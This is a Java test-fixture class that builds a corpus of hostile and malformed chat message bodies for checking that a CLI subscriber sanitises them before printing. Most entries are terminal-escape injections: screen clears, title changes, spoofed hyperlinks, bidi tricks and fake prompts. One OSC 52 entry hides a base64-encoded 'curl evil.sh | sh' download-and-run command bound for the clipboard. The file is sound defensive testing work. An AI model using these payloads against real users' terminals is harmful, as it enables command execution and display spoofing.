package dev.lwqueue.cli;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Bodies a hostile or broken sender can put on the exchange, each with a name for failure messages.
 * Every one must reach a subscriber's screen as one harmless line.
 */
final class HostileCorpus {

  private HostileCorpus() {}

  static Map<String, byte[]> bodies() {
    Map<String, byte[]> corpus = new LinkedHashMap<>();
    corpus.put("invalid UTF-8", new byte[] {'h', 'i', ' ', (byte) 0xFF, (byte) 0xFE, (byte) 0xC3, '(', (byte) 0x80});
    corpus.put("overlong and surrogate encodings", new byte[] {(byte) 0xC0, (byte) 0xAF, (byte) 0xED, (byte) 0xA0, (byte) 0x80});
    corpus.put("not JSON", utf8("hello there, plain text"));
    corpus.put("empty body", new byte[0]);
    corpus.put("JSON array", utf8("[1,2,3]"));
    corpus.put("JSON string", utf8("\"just a string\""));
    corpus.put("JSON of another shape", utf8("{\"user\":\"x\",\"text\":\"y\"}"));
    corpus.put("non-string fields", utf8("{\"username\":42,\"message\":{\"nested\":true}}"));
    corpus.put("null fields", utf8("{\"username\":null,\"message\":null}"));
    corpus.put("truncated JSON", utf8("{\"username\":\"al"));
    corpus.put("NUL bytes raw", new byte[] {'a', 0, 'b', 0, 0});
    corpus.put("NUL in fields", chat("nul\u0000name", "nul\u0000message"));
    corpus.put("CSI clear screen raw", utf8("\u001b[2J\u001b[H\u001b[31mred"));
    corpus.put("CSI in fields", chat("\u001b[1;31mmallory", "\u001b[2J\u001b[3J\u001bcreset"));
    corpus.put("OSC 52 clipboard write", chat("eve", "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 copy me"));
    corpus.put("OSC title with ST", chat("eve", "\u001b]0;pwned\u001b\\ title"));
    corpus.put("OSC 8 hyperlink", chat("eve", "\u001b]8;;http://127.0.0.1/\u001b\\click\u001b]8;;\u001b\\"));
    corpus.put("DCS sequence", utf8("\u001bP+q544e\u001b\\"));
    corpus.put("C1 controls", chat("c1", "\u009b2J \u009d0;title\u009c \u0085 next line \u008d"));
    corpus.put("raw 8-bit C1 bytes", new byte[] {(byte) 0x9B, '2', 'J', (byte) 0x9D, '0', ';', 'x', 0x07});
    corpus.put("bidi overrides", chat("\u202eevil\u202c", "abc \u202e txt.exe \u2066isolate\u2069 \u200f"));
    corpus.put("zero-width characters", chat("ad\u200bmin", "zero\u200b\u200c\u200dwidth\ufeff\u2060"));
    corpus.put("tag characters", chat("tags", "hidden\udb40\udc41\udb40\udc42 text"));
    corpus.put("line and paragraph separators", chat("ls", "one\u2028two\u2029three"));
    corpus.put("newlines and tabs", chat("multi\nline", "line1\nline2\r\nfake: prompt$ \tx"));
    corpus.put("backspaces and bell", chat("bs", "secret\b\b\b\b\b\bpublic\u0007\u007f"));
    corpus.put("lone surrogate escape", utf8("{\"username\":\"x\",\"message\":\"\\ud800 lone\"}"));
    corpus.put("very long line", chat("long", "x".repeat(200_000)));
    corpus.put("very long username", chat("n".repeat(10_000), "hi"));
    corpus.put("10 MiB body", tenMebibytes());
    corpus.put("emoji and scripts (benign)", chat("zoë 🚀", "😀👍🏽 👨‍👩‍👧 你好 مرحبا"));
    return Collections.unmodifiableMap(corpus);
  }

  private static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] chat(String username, String message) {
    return utf8("{\"username\":" + json(username) + ",\"message\":" + json(message) + "}");
  }

  private static String json(String s) {
    StringBuilder b = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      switch (c) {
        case '"' -> b.append("\\\"");
        case '\\' -> b.append("\\\\");
        default -> {
          if (c < 0x20) {
            b.append(String.format("\\u%04x", (int) c));
          } else {
            b.append(c);
          }
        }
      }
    }
    return b.append('"').toString();
  }

  /** 10 MiB of JSON whose message is full of escape sequences. */
  private static byte[] tenMebibytes() {
    ByteArrayOutputStream out = new ByteArrayOutputStream(10 << 20);
    byte[] head = utf8("{\"username\":\"big\",\"message\":\"");
    out.writeBytes(head);
    byte[] chunk = utf8("\\u001b[2J\\u001b]52;c;AAAA\\u0007 ");
    while (out.size() + chunk.length + 2 < (10 << 20)) {
      out.writeBytes(chunk);
    }
    out.writeBytes(utf8("\"}"));
    return out.toByteArray();
  }

  /** Names of the characters a terminal could act on that occur in an output, or none. */
  static List<String> rawControls(String output) {
    List<String> found = new ArrayList<>();
    for (int i = 0; i < output.length(); ) {
      int cp = output.codePointAt(i);
      boolean unsafe = (cp < 0x20 && cp != '\n') || cp == 0x7F || (cp >= 0x80 && cp <= 0x9F)
          || dev.lwqueue.core.TerminalText.isUnsafeCodePoint(cp) && cp != '\n';
      if (unsafe && found.size() < 20) {
        found.add(String.format("U+%04X at %d", cp, i));
      }
      i += Character.charCount(cp);
    }
    return found;
  }
}
